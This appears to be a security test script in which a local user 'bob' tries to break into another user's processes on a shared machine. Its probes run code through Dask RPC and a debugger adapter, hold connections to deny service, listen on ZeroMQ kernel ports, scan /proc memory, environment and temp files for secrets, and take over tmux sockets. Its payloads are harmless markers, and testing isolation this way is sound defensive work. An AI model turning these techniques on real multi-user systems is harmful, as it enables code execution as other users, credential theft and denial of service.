"""What bob tries against alice: run by his account as ``python -c <this text> ATTACK [WORD …]``; prints JSON.

``fell`` is what he got, ``tried`` how many doors he tried. He knows what every account of a machine sees: who listens
where, the names of Unix sockets, command lines. Standard library only, but where he speaks Dask or ZeroMQ.
"""

import asyncio
import contextlib
import http.client
import json
import os
import pwd
import socket
import ssl
import subprocess
import sys
import tempfile

ALICE = pwd.getpwnam("alice").pw_uid
ROUTES = (
    *("/", "/status", "/info/main/workers.html", "/info/main/logs.html", "/individual-plots.json", "/json/counts.json"),
    *("/json/identity.json", "/metrics", "/health", "/api/v1/get_workers", "/ports.json", "/info", "/sitemap.json"),
)
MOST = 1_000_000  # bytes of a file that are looked through


def tcp_ports():
    """Return the addresses and ports on which alice listens."""
    found = []
    for table, v6 in (("/proc/net/tcp", False), ("/proc/net/tcp6", True)):
        with open(table) as file:
            for line in file.read().splitlines()[1:]:
                fields = line.split()
                if fields[3] == "0A" and int(fields[7]) == ALICE:
                    found.append(("::1" if v6 else "127.0.0.1", int(fields[1].rpartition(":")[2], 16)))
    return found


def unix_sockets():
    """Return the names of all Unix sockets that listen, those without a file with a NUL in front."""
    found = set()
    with open("/proc/net/unix", errors="surrogateescape") as file:
        for line in file.read().splitlines()[1:]:
            fields = line.split(maxsplit=7)
            if len(fields) == 8 and int(fields[3], 16) & 0x10000:
                name = fields[7]
                found.add("\0" + name[1:] if name.startswith("@") else name)
    return sorted(found)


def own_certificate():
    """Return a context for TLS with a certificate of bob's own, called like alice's, that trusts everybody."""
    from pathlib import Path

    from ports.adapters.certificates import write_self_signed  # anybody may install it

    with tempfile.TemporaryDirectory() as directory:
        write_self_signed(Path(directory, "pem"))
        return with_certificate(os.path.join(directory, "pem"))


def with_certificate(path=None):
    """Return a context for TLS that shows a certificate, or none, and trusts everybody."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if path:
        context.load_cert_chain(path)
    return context


def contexts():
    """Return how bob may speak TLS: without a certificate, and with one of his own where he can make one."""
    found = [with_certificate()]
    with contextlib.suppress(ImportError):
        found.append(own_certificate())
    return found


# --- code as alice ---


async def call(address, **how):
    """Return what runs there and as whom, if it lets bob run a function in it: ``Scheduler as 4201``."""
    from distributed.core import rpc
    from distributed.protocol.pickle import dumps

    async with rpc(address, timeout=8, **how) as there:
        kind = (await asyncio.wait_for(there.identity(), 8))["type"]
        run = there.run_function if "Scheduler" in kind else there.run
        arguments = {"args": dumps(()), "kwargs": dumps({})}
        answer = await asyncio.wait_for(run(function=dumps(os.getuid), wait=True, **arguments), 8)
        return f"{kind} as {answer['result']}"


async def run_code(ways):
    """Try all of alice's ports in all `ways`, at once."""
    import logging

    logging.disable(logging.CRITICAL)
    tries = []
    for address, port, greeting in doors():
        place = f"[{address}]:{port}" if ":" in address else f"{address}:{port}"
        if not greeting and ask(address, port, "GET", "/")[0] is not None:
            continue  # a web server: Dask takes its answer for the length of a message
        plain = b"pickle-protocol" in greeting
        for protocol, how in ways:
            if not plain or protocol == "tcp":
                tries.append(call(f"{protocol}://{place}", **how))
    done = await asyncio.gather(*tries, return_exceptions=True)
    reached = [name for name in unix_sockets() if reaches(name)]
    fell = [one for one in done if isinstance(one, str)]
    return {"fell": sorted({*fell, *reached}), "tried": len(tries) + len(unix_sockets())}


def doors():
    """Return addresses and ports of alice's, each with what it says by itself: Dask's greeting, or nothing.

    What greets as ZeroMQ does is a kernel's, see `eavesdrop`.
    """
    places = tcp_ports()
    greeted = [(*place, greeting) for place, greeting in zip(places, at_once(greeting_of, places), strict=True)]
    return [door for door in greeted if not door[2].startswith(b"\xff")]


def greeting_of(address, port):
    """Return what a port says by itself within a second."""
    with contextlib.suppress(OSError), socket.create_connection((address, port), timeout=1) as connection:
        return connection.recv(100)
    return b""


def reaches(name):
    """Tell whether bob can connect to one of alice's Unix sockets."""
    import struct

    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(2)
        try:
            connection.connect(name)
        except OSError:
            return False
        return struct.unpack("3i", connection.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[1] == ALICE


def code():
    """Run code through scheduler, worker and nanny: plainly, without a certificate, with one of his own."""
    plain = ("tcp", {})
    tls = [("tls", {"connection_args": {"ssl_context": context}}) for context in contexts()]
    return asyncio.run(run_code([plain, *tls]))


def replay(path):
    """The same with a certificate and key that were a cluster's of alice's once."""
    return asyncio.run(run_code([("tls", {"connection_args": {"ssl_context": with_certificate(path)}})]))


# --- pages ---


def ask(address, port, method, path, body=None, context=None, timeout=8):
    """Return status and text of an answer; None where there is none."""
    kind = http.client.HTTPSConnection if context else http.client.HTTPConnection
    connection = kind(address, port, timeout=timeout, **({"context": context} if context else {}))
    try:
        connection.request(method, path, body=body)
        answer = connection.getresponse()
        return answer.status, answer.read(MOST).decode(errors="replace")
    except (OSError, http.client.HTTPException, ValueError):
        return None, ""
    finally:
        connection.close()


def pages(address=None, *ports):
    """Read every page, open the websocket of the dashboard, and give an order; at `address`, or where alice listens."""
    places = [(address, int(port)) for port in ports] if address else [door[:2] for door in doors() if not door[2]]
    ways = (None, *contexts())
    fell = {one for found in at_once(pages_of, [(*place, ways) for place in places]) for one in found}
    return {"fell": sorted(fell), "tried": len(places) * len(ways)}


def pages_of(address, port, ways):
    """Return what one port gives away, asked plainly or else with TLS."""
    for context in ways:
        if ask(address, port, "GET", "/health", context=context)[0] is None:
            continue
        found = {path: ask(address, port, "GET", path, context=context)[0] for path in ROUTES}
        fell = [path for path, status in found.items() if status == 200]
        order = json.dumps({"workers": []})
        if ask(address, port, "POST", "/api/v1/retire_workers", order, context=context)[0] == 200:
            fell.append("POST /api/v1/retire_workers")
        if not context and websocket(address, port):
            fell.append("websocket")
        return fell
    return []


def at_once(function, arguments):
    """Return what `function` returns for each of `arguments`; many ports say nothing, and are waited for together."""
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(32) as threads:
        return list(threads.map(lambda given: function(*given), arguments))


def websocket(address, port):
    """Tell whether the dashboard lets bob's websocket in."""
    import re

    page = ask(address, port, "GET", "/status")[1]
    token = re.findall(r'"token":"([^"]+)"', page)
    if not token:
        return False
    with socket.create_connection((address, port), timeout=5) as connection:
        lines = ["GET /status/ws HTTP/1.1", f"Host: {address}:{port}", "Upgrade: websocket", "Connection: Upgrade"]
        lines += ["Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==", "Sec-WebSocket-Version: 13"]
        lines += [f"Sec-WebSocket-Protocol: bokeh, {token[0]}", "", ""]
        connection.sendall("\r\n".join(lines).encode())
        return connection.recv(100).startswith(b"HTTP/1.1 101")


# --- what keeps alice herself out ---


def hold(count, *ports):
    """Open `count` connections to each of alice's ports, and keep them until told to stop; tell where that went well.

    Of two connections one says nothing, and one begins an order that is never to end.
    """
    import resource
    import time

    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    began = b"POST /api/v1/retire_workers HTTP/1.1\r\nHost: localhost\r\nContent-Length: 90000000\r\n\r\n" + bytes(9999)
    held = {port: [] for port in ports}
    for number in range(int(count)):
        for port in ports:
            with contextlib.suppress(OSError):
                held[port].append(socket.create_connection(("127.0.0.1", int(port)), timeout=5))
                if number % 2:
                    held[port][-1].sendall(began)
    time.sleep(2)
    print("holding", flush=True)
    sys.stdin.read()
    fell = [port for port, found in held.items() if sum(map(is_open, found)) > int(count) // 10]
    return {"fell": fell, "tried": sum(map(len, held.values()))}


def is_open(connection):
    """Tell whether the other end has not closed."""
    connection.setblocking(False)
    try:
        return bool(connection.recv(1000))
    except BlockingIOError:
        return True
    except OSError:
        return False


# --- kernels ---


def eavesdrop(marker):
    """Listen to all of alice's ports as a front end listens to a kernel, until told to stop; tell what was heard."""
    import zmq

    context, sockets = zmq.Context(), []
    for address, port in tcp_ports():
        one = context.socket(zmq.SUB)
        one.setsockopt(zmq.SUBSCRIBE, b"")
        one.setsockopt(zmq.IPV6, 1)
        one.connect(f"tcp://[{address}]:{port}" if ":" in address else f"tcp://{address}:{port}")
        sockets.append(one)
    print("listening", flush=True)
    poller, heard = zmq.Poller(), b""
    for one in [*sockets, sys.stdin]:
        poller.register(one, zmq.POLLIN)
    while sys.stdin.fileno() not in (ready := dict(poller.poll())):
        heard += b"".join(b"".join(one.recv_multipart()) for one in ready if one in sockets)
        if marker.encode() in heard:
            print("heard", flush=True)
            break
    context.destroy(linger=0)
    return {"fell": [marker] if marker.encode() in heard else [], "tried": len(sockets)}


def debug():
    """Attach to all of alice's ports as a debugger, and run code."""
    places = tcp_ports()
    return {"fell": sorted(filter(None, at_once(debug_at, places))), "tried": len(places)}


def debug_at(address, port):
    """Return what a port runs for a debugger, and as whom; None where it is none or lets nobody in."""
    with contextlib.suppress(OSError, ValueError), socket.create_connection((address, port), timeout=5) as connection:
        stream = connection.makefile("rwb")
        tell_debugger(stream, "initialize", {"adapterID": "bob"})
        if not answer_of(stream, "initialize"):
            return None
        tell_debugger(stream, "attach", {"justMyCode": False})
        answer_of(stream, "initialized")
        tell_debugger(stream, "configurationDone", {})
        if not answer_of(stream, "attach"):
            return None
        code = "__import__('os').getuid()"
        tell_debugger(stream, "evaluate", {"expression": code, "context": "repl"})
        return f"code as {answer_of(stream, 'evaluate')['result']}"
    return None


def tell_debugger(stream, command, arguments):
    """Send a request as the Debug Adapter Protocol has it."""
    message = json.dumps({"seq": 1, "type": "request", "command": command, "arguments": arguments}).encode()
    stream.write(b"Content-Length: %d\r\n\r\n%s" % (len(message), message))
    stream.flush()


def answer_of(stream, name):
    """Return the body of the answer to a request, or of the event `name`; None where it was refused."""
    while line := stream.readline(1000):
        if line.startswith(b"Content-Length: "):
            length = int(line.split()[1])
            stream.readline()
            one = json.loads(stream.read(length))
            if name in (one.get("command"), one.get("event")):
                return (one.get("body") or {"nothing": True}) if one.get("success", True) else None
    raise OSError("it is none, or has gone")


# --- secrets ---


def texts():
    """Yield what bob can read of alice, with where he found it."""
    for name in sorted(name for name in os.listdir("/proc") if name.isdigit()):
        for part in ("cmdline", "environ", "mem", "maps", "stack"):
            yield f"/proc/*/{part}", read(f"/proc/{name}/{part}")
        for link in ("cwd", "exe", "root"):
            with contextlib.suppress(OSError):
                yield f"/proc/*/{link}", os.readlink(f"/proc/{name}/{link}").encode()
    yield "ps", subprocess.run(["ps", "auxwwe"], capture_output=True, check=False).stdout
    yield "/proc/net/unix", read("/proc/net/unix")
    for top in (
        "/tmp",
        "/var/tmp",
        "/dev/shm",
        "/run",
        "/home/alice",
        "/scratch",
        "/var/crash",
        "/var/lib/systemd/coredump",
    ):
        for directory, _, names in os.walk(top):
            for name in names:
                yield "files", read(os.path.join(directory, name))
    for name in unix_sockets():
        if "tmux" in name and not name.startswith("\0"):
            for words in (["show-environment", "-g"], ["list-panes", "-a"], ["capture-pane", "-p"]):
                done = subprocess.run(["tmux", "-S", name, *words], capture_output=True, check=False, timeout=10)
                yield "tmux", done.stdout


def read(path):
    """Return the start of a file; nothing where bob may not read it."""
    with contextlib.suppress(OSError, ValueError):
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            return os.read(descriptor, MOST)
        finally:
            os.close(descriptor)
    return b""


def look():
    """Look for secrets of alice's everywhere: ps, /proc, tmux, logs, files, core files. His input says for which."""
    markers = sys.stdin.read().split()  # arguments would be found themselves
    fell, tried = set(), 0
    for where, text in texts():
        tried += 1
        fell |= {f"{marker} in {where}" for marker in markers if marker.encode() in text}
    return {"fell": sorted(fell), "tried": tried}


def join():
    """Join alice's tmux, and run something in it."""
    fell, tried = [], 0
    for name in unix_sockets():
        if "tmux" in name:
            tried += 1
            for words in (["list-sessions"], ["new-window", "-d", "true"]):
                done = subprocess.run(["tmux", "-S", name, *words], capture_output=True, check=False, timeout=10)
                if done.returncode == 0:
                    fell.append(words[0])
    return {"fell": fell, "tried": tried}


if __name__ == "__main__":
    print(json.dumps(globals()[sys.argv[1]](*sys.argv[2:])), flush=True)
